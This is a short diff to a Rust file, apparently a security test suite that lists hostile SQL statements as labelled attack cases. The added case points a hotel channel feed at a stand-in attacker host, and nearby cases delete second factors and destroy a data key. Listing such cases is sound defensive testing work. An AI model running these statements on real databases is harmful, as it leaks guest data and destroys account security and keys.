@@ -119,6 +119,10 @@ const ATTACKS: &[Attack] = &[
     ),
     Attack::of_rows("a second factor is taken away", "DELETE FROM account_factor WHERE state = 'active'"),
     Attack::of_rows(
+        "a hotel system is asked at another address",
+        "UPDATE channel_feed SET url = 'https://thief.example.com', is_on = TRUE",
+    ),
+    Attack::of_rows(
         "a data key is destroyed",
         "DELETE FROM keys.data_key WHERE owner = (SELECT guest_id FROM guest_visit ORDER BY guest_id LIMIT 1)",
     ),
